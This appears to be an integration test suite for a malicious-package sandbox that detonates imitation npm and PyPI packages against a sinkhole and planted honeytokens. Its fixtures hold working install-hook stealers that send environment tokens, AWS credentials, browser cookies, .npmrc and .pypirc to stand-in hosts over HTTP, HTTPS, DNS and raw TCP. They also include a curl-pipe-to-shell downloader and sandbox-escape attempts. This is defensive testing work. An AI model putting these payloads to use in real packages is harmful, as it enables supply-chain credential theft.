// The per-analysis sinkhole and the honeytokens against the real Docker engine, with the real
// sandbox (same image, capabilities, labels) joined to the sinkhole's network namespace.
// Packages imitate malware against documentation addresses and .example names only.
import { spawn } from 'node:child_process';
import dgram from 'node:dgram';
import { randomUUID } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Behavior, CanaryReport, SinkholeCapture, StagedPackage } from '@vetbox/contracts';
import { buildBehavior } from '@vetbox/behavior';
import { traceInput } from '@vetbox/pipeline';
import { detectLeaks, generateCanaries, type Canaries } from '@vetbox/honeytokens';
import {
  DockerRuntime,
  LABEL_ANALYSIS,
  ensureSandboxImage,
  randomIdentity,
  runInSandbox,
  runSandbox,
  type PhaseResult,
  type SandboxIdentity,
} from '@vetbox/sandbox';
import { startSinkhole, type CannedResponse } from '@vetbox/sinkhole';
import { stageNpm, stagePypiSdist } from '../fixtures/sandbox/stage.js';

const here = path.dirname(fileURLToPath(import.meta.url));
const runtime = new DockerRuntime();
const limits = { graceMs: 1000, phaseTimeoutMs: 120_000 };
let image = '';
const used: string[] = [];

beforeAll(async () => {
  image = await ensureSandboxImage(runtime, { build: true });
}, 600_000);

afterEach(async () => {
  for (const id of used.splice(0)) expect(await runtime.listByLabel(LABEL_ANALYSIS, id)).toEqual([]);
});

interface Detonation {
  capture: SinkholeCapture;
  behavior: Behavior;
  reports: CanaryReport[];
  canaries: Canaries;
  phases: PhaseResult[];
  identity: SandboxIdentity;
}

/** The pipeline's order: sinkhole → canaries → sandbox in its namespace → collect → detect. */
async function detonate(staged: StagedPackage, canned: CannedResponse[] = []): Promise<Detonation> {
  const analysisId = `test-sinkhole-${randomUUID()}`;
  used.push(analysisId);
  const identity = randomIdentity();
  const canaries = generateCanaries({ home: identity.home, workdir: identity.workdir, user: identity.user, hostname: identity.hostname });
  await using sinkhole = await startSinkhole({ analysisId, image, canned, persona: identity, credentials: canaries.credentials });
  const r = await runSandbox({
    analysisId,
    staged,
    identity,
    limits,
    network: sinkhole.network,
    env: canaries.env,
    homeFiles: canaries.files,
    caCertPem: sinkhole.caCertPem,
  });
  const capture = await sinkhole.collect();
  const behavior = await buildBehavior({
    ...traceInput(r),
    sandbox: r.sandbox,
    capture,
  });
  return { capture, behavior, reports: detectLeaks(canaries.canaries, capture, behavior), canaries, phases: r.phases, identity };
}

const leaked = (d: Detonation) => d.reports.filter((r) => r.leaked);
const report = (d: Detonation, planted: string) => d.reports.find((r) => r.planted === planted || r.planted.endsWith(planted))!;
const argvOf = (d: Detonation, pid: number | undefined) => d.behavior.processes.find((p) => p.pid === pid)?.argv.join(' ') ?? '';

// Each test detonates a package: minutes on a loaded host, so the limit is generous (it is a wait, not a speed check).
describe('sinkhole + honeytokens: imitation malware', { timeout: 600_000 }, () => {
  it('postinstall base64-encodes process.env into an HTTP POST to collector.example', async () => {
    const staged = await stageNpm({
      name: 'env-stealer',
      scripts: { postinstall: 'node steal.js' },
      files: {
        'steal.js': `
const http = require('http');
const body = Buffer.from(JSON.stringify(process.env)).toString('base64');
const req = http.request({ host: 'collector.example', path: '/e', method: 'POST', headers: { 'content-type': 'text/plain' } }, (res) => {
  res.resume(); res.on('end', () => console.log('exfil status', res.statusCode));
});
req.on('error', (e) => console.log('exfil error', e.message));
req.end(body);
`,
        'index.js': 'module.exports = 1;\n',
      },
    });
    const d = await detonate(staged);
    expect(d.phases[0]!.stdoutTail).toContain('exfil status 200');
    for (const name of ['NPM_TOKEN', 'AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN', 'PYPI_TOKEN']) {
      const r = report(d, name);
      expect(r.leaked, name).toBe(true);
      expect(r.read).toBeNull();
      expect(r.evidence[0]).toMatchObject({ encoding: 'base64', channel: 'http', destination: 'collector.example', phase: 'install' });
      expect(argvOf(d, r.evidence[0]!.pid)).toContain('steal.js');
    }
    // File canaries were not touched.
    expect(leaked(d).every((r) => r.kind.startsWith('env-'))).toBe(true);
  });

  it('postinstall hex-encodes NPM_TOKEN into DNS names split across labels', async () => {
    const staged = await stageNpm({
      name: 'dns-exfil',
      scripts: { postinstall: 'node dns.js' },
      files: {
        'dns.js': `
const dns = require('dns');
const hex = Buffer.from(process.env.NPM_TOKEN || '').toString('hex');
const name = hex.match(/.{1,30}/g).join('.') + '.t.attacker.example';
dns.lookup(name, (err, address) => console.log('resolved', err ? err.code : address));
`,
        'index.js': 'module.exports = 1;\n',
      },
    });
    const d = await detonate(staged);
    expect(d.phases[0]!.stdoutTail).toMatch(/resolved [0-9a-f:.]{7,}/);
    const r = report(d, 'NPM_TOKEN');
    expect(r.leaked).toBe(true);
    expect(r.evidence[0]).toMatchObject({ channel: 'dns', encoding: 'hex', destination: 'attacker.example', layers: ['dns-labels', 'hex'] });
    expect(leaked(d).map((x) => x.planted)).toEqual(['NPM_TOKEN']);
  });

  it('setup.py sends ~/.aws/credentials over raw TCP to 198.51.100.20:9001', async () => {
    const staged = await stagePypiSdist({
      name: 'awssteal',
      setupPy: `
import os, socket
try:
    data = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()
    s = socket.create_connection(('198.51.100.20', 9001), timeout=3)
    s.sendall(data)
    print('exfil answer', s.recv(16))
    s.close()
except Exception as e:
    print('exfil failed', e)
try:
    import sqlite3, urllib.parse, urllib.request
    db = sqlite3.connect(os.path.expanduser('~/.config/google-chrome/Default/Cookies'))
    rows = db.execute("select host_key, name, value from cookies").fetchall()
    urllib.request.urlopen('http://c2.example/c?' + urllib.parse.urlencode({'d': repr(rows)}), timeout=3).read()
except Exception as e:
    print('cookie exfil failed', e)
from setuptools import setup
setup(name='awssteal', version='1.0.0', py_modules=['awssteal'])
`,
      files: { 'awssteal.py': 'VALUE = 1\n' },
    });
    const d = await detonate(staged);
    const r = report(d, '/.aws/credentials');
    expect(r.kind).toBe('aws-credentials');
    expect(r.leaked).toBe(true);
    expect(r.read).toBe(true);
    expect(r.evidence[0]).toMatchObject({ channel: 'tcp', encoding: 'plain', destination: '198.51.100.20:9001', phase: 'install' });
    expect(argvOf(d, r.evidence[0]!.pid)).toMatch(/python/);
    const stream = d.capture.streams[r.evidence[0]!.capture!.index]!;
    expect(stream.dst).toEqual({ address: '198.51.100.20', port: 9001 });
    // The browser cookie store (a real SQLite file) read with sqlite3 and sent in a query string.
    const cookies = report(d, '/Default/Cookies');
    expect(cookies.read).toBe(true);
    expect(cookies.evidence[0]).toMatchObject({ channel: 'http', destination: 'c2.example', capture: { part: 'path' } });
  });

  it('node POSTs ~/.npmrc and python POSTs ~/.pypirc over HTTPS (decrypted with the analysis CA)', async () => {
    const staged = await stageNpm({
      name: 'npmrc-https',
      scripts: { postinstall: 'node up.js; python3 up.py' },
      files: {
        'up.js': `
const https = require('https'), fs = require('fs'), os = require('os');
const body = fs.readFileSync(os.homedir() + '/.npmrc');
const req = https.request({ host: 'upload.example', path: '/u', method: 'POST' }, (res) => {
  res.resume(); res.on('end', () => console.log('upload status', res.statusCode));
});
req.on('error', (e) => console.log('upload error', e.message));
req.end(body);
`,
        'up.py': `
import base64, os, urllib.request
data = base64.b64encode(open(os.path.expanduser('~/.pypirc'), 'rb').read())
with urllib.request.urlopen(urllib.request.Request('https://py-upload.example/p', data=data, method='PUT'), timeout=5) as r:
    print('py upload status', r.status)
`,
        'index.js': 'module.exports = 1;\n',
      },
    });
    const d = await detonate(staged);
    expect(d.phases[0]!.stdoutTail).toContain('upload status 200');
    expect(d.phases[0]!.stdoutTail).toContain('py upload status 200');
    const pypirc = report(d, '/.pypirc');
    expect(pypirc.read).toBe(true);
    expect(pypirc.evidence[0]).toMatchObject({ channel: 'https', encoding: 'base64', destination: 'py-upload.example' });
    expect(argvOf(d, pypirc.evidence[0]!.pid)).toContain('up.py');
    const r = report(d, '/.npmrc');
    expect(r.kind).toBe('npmrc');
    expect(r.read).toBe(true);
    expect(r.evidence[0]).toMatchObject({ channel: 'https', encoding: 'plain', destination: 'upload.example', phase: 'install' });
    expect(argvOf(d, r.evidence[0]!.pid)).toContain('up.js');
    const stream = d.capture.streams.find((s) => s.sni === 'upload.example')!;
    expect(stream.kind).toBe('tls');
    expect(stream.http[0]).toMatchObject({ method: 'POST', path: '/u' });
  });

  it('a downloader gets the sinkhole answer and its next step shows up too', async () => {
    const staged = await stageNpm({
      name: 'downloader',
      scripts: { postinstall: 'curl -s http://stage.example/stage2.sh | sh' },
      files: { 'index.js': 'module.exports = 1;\n' },
    });
    const canned = [{ host: 'stage.example', path: '/stage2.sh', contentType: 'text/x-shellscript', body: '#!/bin/sh\ncurl -s http://next.example/ping\n' }];
    const d = await detonate(staged, canned);
    const requests = d.capture.streams.flatMap((s) => s.http.map((h) => `${h.method} ${h.host}${h.path}`));
    expect(requests).toEqual(expect.arrayContaining(['GET stage.example/stage2.sh', 'GET next.example/ping']));
    const stage2 = d.behavior.processes.find((p) => p.argv.join(' ') === 'curl -s http://next.example/ping');
    expect(stage2, JSON.stringify(d.behavior.processes.map((p) => p.argv))).toBeDefined();
    const first = d.capture.streams.find((s) => s.http.some((h) => h.path === '/stage2.sh'))!;
    expect(first.hostname).toBe('stage.example');
    expect(leaked(d)).toEqual([]);
  });
});

/** Counts packets carrying `marker` on every host interface while `fn` runs. */
async function witness<T>(marker: string, fn: () => Promise<T>): Promise<{ result: T; marked: Record<string, number>; seen: number }> {
  const child = spawn('python3', [path.join(here, '../fixtures/sinkhole/sniff.py'), marker], { stdio: ['pipe', 'pipe', 'inherit'] });
  let out = '';
  child.stdout.on('data', (c: Buffer) => (out += c.toString()));
  await new Promise<void>((resolve, reject) => {
    child.on('error', reject);
    child.stdout.on('data', () => out.includes('ready') && resolve());
  });
  try {
    const result = await fn();
    await new Promise((r) => setTimeout(r, 500));
    child.stdin.end();
    await new Promise((r) => child.on('close', r));
    const { marked, seen } = JSON.parse(out.split('\n').find((l) => l.startsWith('{'))!) as { marked: Record<string, number>; seen: number };
    return { result, marked, seen };
  } finally {
    child.kill();
  }
}

function hostTxPackets(text: string): number {
  return text
    .split('\n')
    .slice(2)
    .map((l) => l.trim().split(/[:\s]+/))
    .filter((f) => f.length > 10 && f[0] !== 'lo')
    .reduce((sum, f) => sum + Number(f[10]), 0);
}

const LOOK_AROUND_JS = String.raw`
const dns = require('dns').promises;
const fs = require('fs');
const https = require('https');
const os = require('os');
const get = (url, headers = {}) => new Promise((resolve) => {
  https.get(url, { headers }, (res) => { let b = ''; res.on('data', (c) => (b += c)); res.on('end', () => resolve({ status: res.statusCode, body: b })); })
    .on('error', (e) => resolve({ status: 0, body: e.message }));
});
const attempt = (p) => p.then((v) => v, (e) => 'ERR ' + e.code);
(async () => {
  const out = {};
  out.interfaces = os.networkInterfaces();
  out.resolvConf = fs.readFileSync('/etc/resolv.conf', 'utf8');
  out.a = await attempt(dns.resolve4('registry.npmjs.org'));
  out.aAgain = await attempt(dns.resolve4('registry.npmjs.org'));
  out.aaaa = await attempt(dns.resolve6('www.example.com'));
  out.txt = await attempt(dns.resolveTxt('example.com'));
  out.mx = await attempt(dns.resolveMx('example.com'));
  out.srv = await attempt(dns.resolveSrv('_xmpp-client._tcp.example.com'));
  out.cname = await attempt(dns.resolveCname('www.example.com'));
  out.myip = await get('https://api.ipify.org/?format=json');
  out.geo = await get('https://ipinfo.io/json');
  out.githubGood = await get('https://api.github.com/user', { authorization: 'token ' + process.env.GITHUB_TOKEN, 'user-agent': 'x' });
  out.githubBad = await get('https://api.github.com/user', { authorization: 'token ghp_0000000000000000000000000000000000000', 'user-agent': 'x' });
  console.log('LOOK ' + JSON.stringify(out));
})();
`;

describe('sinkhole realism', () => {
  it('the sandbox sees a laptop on a home network: LAN interface, every DNS type, public addresses, IPv6, live-service answers', async () => {
    const analysisId = `test-sinkhole-${randomUUID()}`;
    used.push(analysisId);
    const identity = randomIdentity();
    const canaries = generateCanaries({ home: identity.home, workdir: identity.workdir, user: identity.user, hostname: identity.hostname });
    await using sinkhole = await startSinkhole({ analysisId, image, persona: identity, credentials: canaries.credentials });
    const v6name = 'v6-only.example';
    const script = `cat > /tmp/look.js <<'JS'\n${LOOK_AROUND_JS}\nJS\nnode /tmp/look.js; curl -6 -s -m 10 -o /dev/null -w 'v6=%{http_code}\\n' http://${v6name}/hello`;
    const r = await runInSandbox({ analysisId, identity, cmd: script, network: sinkhole.network, caCertPem: sinkhole.caCertPem, env: canaries.env, timeoutMs: 90_000, limits });
    const line = r.stdoutTail.split('\n').find((l) => l.startsWith('LOOK '));
    expect(line, r.stdoutTail + r.stderrTail).toBeDefined();
    const look = JSON.parse(line!.slice(5)) as Record<string, any>;
    // The persona's interface, MAC and addresses, beside lo; the router is the name server.
    const lan = (look.interfaces[identity.lan.interface] ?? []) as { address: string; mac: string; family: string }[];
    expect(lan.map((a) => a.address)).toEqual(expect.arrayContaining([identity.lan.address, identity.lan.address6]));
    expect(lan[0]!.mac).toBe(identity.lan.mac);
    expect(Object.keys(look.interfaces).sort()).toEqual([identity.lan.interface, 'lo'].sort());
    expect(look.resolvConf).toContain(`nameserver ${identity.lan.gateway}`);
    // Every record type answered; public names get public addresses, the same each time.
    expect(look.a[0]).toMatch(/^(104\.(1[6-9]|2[0-3])|172\.(6[4-9]|7[01])|162\.159)\./);
    expect(look.aAgain).toEqual(look.a);
    expect(look.aaaa[0]).toMatch(/^2[0-9a-f]{3}:/);
    expect(JSON.stringify(look.txt)).toContain('v=spf1');
    expect(look.mx.length).toBeGreaterThan(0);
    expect(look.srv[0]).toMatchObject({ port: 5222 });
    expect(look.cname).toEqual(['example.com']);
    // "What is my IP", geolocation and token checks answer with the persona, through the proxy CA.
    expect(JSON.parse(look.myip.body)).toEqual({ ip: identity.publicAddress });
    // ipinfo.io is dual-stack: over IPv6 it reports the interface's global address, as the real one does.
    expect([identity.publicAddress, identity.lan.address6]).toContain(JSON.parse(look.geo.body).ip);
    expect(JSON.parse(look.geo.body)).toMatchObject({ city: identity.geo.city, timezone: identity.timezone });
    expect(look.githubGood.status).toBe(200);
    expect(JSON.parse(look.githubGood.body).name).toBe(identity.fullName);
    expect(look.githubBad.status).toBe(401);
    // IPv6 is captured too, and its destination is joined back to the name.
    expect(r.stdoutTail).toContain('v6=200');
    const capture = await sinkhole.collect();
    const v6 = capture.streams.find((s) => s.hostname === v6name);
    expect(v6?.dst.address).toContain(':');
    expect(v6?.http[0]?.path).toBe('/hello');
  }, 600_000);
});

describe('sinkhole isolation', () => {
  it('the sandbox cannot change routes or rules, open raw sockets, or get a packet onto a host interface', async () => {
    const analysisId = `test-sinkhole-${randomUUID()}`;
    used.push(analysisId);
    const marker = `vetbox-leak-${randomUUID().slice(0, 8)}`;
    const BURST = 2000;
    await using sinkhole = await startSinkhole({ analysisId, image });
    const script = `
iptables -t nat -F 2>&1; echo "iptables=$?"
ip route del default 2>&1; echo "routedel=$?"
ip route add 203.0.113.0/24 dev lo 2>&1; echo "routeadd=$?"
ip link set lo down 2>&1; echo "linkdown=$?"
python3 - <<'PY'
import socket
for name, args in [('raw', (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)), ('packet', (socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)))]:
    try:
        socket.socket(*args); print(name + '=opened')
    except OSError as e:
        print(name + '=' + type(e).__name__)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sent = 0
for i in range(${BURST}):
    try:
        u.sendto(b'${marker} %d' % i, ('203.0.113.1', 9)); sent += 1
    except OSError:
        pass
print('udp_sent=%d' % sent)
for host in ['203.0.113.1', '192.0.2.1']:
    try:
        s = socket.create_connection((host, 80), timeout=2); s.sendall(b'${marker}'); s.close(); print('tcp=' + host)
    except OSError as e:
        print('tcp_err=' + str(e))
PY
curl -s -m 5 http://after.example/still-sinkholed >/dev/null; echo "curl=$?"
`;
    const before = await readFile('/proc/net/dev', 'utf8');
    const { result, marked } = await witness(marker, async () => {
      const r = await runInSandbox({ analysisId, cmd: script, network: sinkhole.network, timeoutMs: 60_000, limits });
      // Positive control: one marked datagram on the host's own loopback must be seen.
      const control = dgram.createSocket('udp4');
      await new Promise((resolve) => control.send(`${marker} control`, 9, '127.0.0.1', resolve));
      control.close();
      return r;
    });
    const after = await readFile('/proc/net/dev', 'utf8');
    const out = result.stdoutTail;
    expect(out).toMatch(/iptables=[1-9]/);
    expect(out).toMatch(/routedel=[1-9]/);
    expect(out).toMatch(/routeadd=[1-9]/);
    expect(out).toMatch(/linkdown=[1-9]/);
    expect(out).toContain('raw=PermissionError');
    expect(out).toContain('packet=PermissionError');
    expect(out).toContain(`udp_sent=${BURST}`);
    expect(out).toContain('curl=0');
    // The witness saw the control on the host's lo, and not one marked packet anywhere else.
    expect(Object.keys(marked)).toEqual(['lo']);
    // The control shows up a few times on lo (sent, received, quoted in the ICMP port
    // unreachable): a handful, against the burst's 2000.
    expect(marked.lo).toBeGreaterThanOrEqual(1);
    expect(marked.lo).toBeLessThan(10);
    // Interface counters as a second witness: the burst alone would add ≥ 2000 tx packets.
    // Background traffic of this shared machine also counts, so only a gross leak fails here.
    expect(hostTxPackets(after) - hostTxPackets(before)).toBeLessThan(BURST);
    // Everything went to the sinkhole instead, and the rules still held afterwards.
    const capture = await sinkhole.collect();
    const udp = capture.streams.filter((s) => s.protocol === 'udp' && s.dst.address === '203.0.113.1');
    expect(udp.length).toBeGreaterThan(0);
    expect(Buffer.from(udp[0]!.dataBase64, 'base64').toString()).toContain(marker);
    // A UDP flood may overrun the recorder's socket buffer: most, not all, datagrams are kept.
    expect(udp.reduce((n, s) => n + s.bytes, 0)).toBeGreaterThan((BURST * marker.length) / 4);
    const tcp = capture.streams.filter((s) => s.protocol === 'tcp').map((s) => `${s.dst.address}:${s.dst.port}`);
    expect(tcp).toEqual(expect.arrayContaining(['203.0.113.1:80', '192.0.2.1:80']));
    expect(capture.streams.some((s) => s.http.some((h) => h.host === 'after.example'))).toBe(true);
  });
});

describe('sinkhole lifecycle', () => {
  it('labels its container for the reaper, survives repeated collects, and is removed by dispose', async () => {
    const analysisId = `test-sinkhole-${randomUUID()}`;
    used.push(analysisId);
    let id = '';
    {
      await using sinkhole = await startSinkhole({ analysisId, image, persona: { ...randomIdentity(), hostname: 'jdoe-laptop' } });
      id = sinkhole.containerId;
      const [labeled] = await runtime.listByLabel(LABEL_ANALYSIS, analysisId);
      expect(labeled!.id).toBe(id);
      expect(labeled!.labels['vetbox.role']).toBe('sinkhole');
      // `<hostname>:<pid>:<nonce>`: the reaper's liveness check finds this worker alive.
      expect(labeled!.labels['vetbox.worker']).toMatch(new RegExp(`:${process.pid}:`));
      expect(await runtime.inspectHostname(id)).toBe('jdoe-laptop');
      // The listeners parse hostile traffic: they keep NET_ADMIN (conntrack) and NET_BIND_SERVICE only.
      const caps = await runtime.exec(id, ['sh', '-c', 'for p in /proc/[0-9]*; do [ "$p" = /proc/$$ ] && continue; grep -q -- --serve $p/cmdline 2>/dev/null && grep CapEff $p/status; done'], { user: '0:0' });
      expect(caps.stdout.toString().trim()).toBe(`CapEff:\t${((1n << 10n) | (1n << 12n)).toString(16).padStart(16, '0')}`);
      expect((await sinkhole.collect()).streams).toEqual([]);
      expect((await sinkhole.collect()).dns).toEqual([]);
    }
    expect(await runtime.listByLabel(LABEL_ANALYSIS, analysisId)).toEqual([]);
  });

  it('concurrent analyses each see only their own sandbox traffic', async () => {
    const ids = [`test-sinkhole-${randomUUID()}`, `test-sinkhole-${randomUUID()}`];
    used.push(...ids);
    // allSettled: both analyses finish (and clean up) before anything is asserted.
    const settled = await Promise.allSettled(
      ids.map(async (analysisId, i) => {
        await using sinkhole = await startSinkhole({ analysisId, image });
        await runInSandbox({ analysisId, cmd: `curl -s -m 5 http://only-${i}.example/x >/dev/null; echo done`, network: sinkhole.network, timeoutMs: 30_000, limits });
        return await sinkhole.collect();
      }),
    );
    const captures = settled.map((r) => {
      if (r.status === 'rejected') throw r.reason;
      return r.value;
    });
    captures.forEach((capture, i) => {
      const hosts = capture.streams.flatMap((s) => s.http.map((h) => h.host));
      expect(hosts).toEqual([`only-${i}.example`]);
      expect(capture.dns.every((q) => q.name === `only-${i}.example`)).toBe(true);
    });
  });

  it('a sinkhole that cannot start throws a VetboxError and leaves nothing behind', async () => {
    const analysisId = `test-sinkhole-${randomUUID()}`;
    used.push(analysisId);
    await expect(startSinkhole({ analysisId, image: 'vetbox-sandbox:does-not-exist' })).rejects.toMatchObject({ name: 'VetboxError' });
    expect(await runtime.listByLabel(LABEL_ANALYSIS, analysisId)).toEqual([]);
  });
});
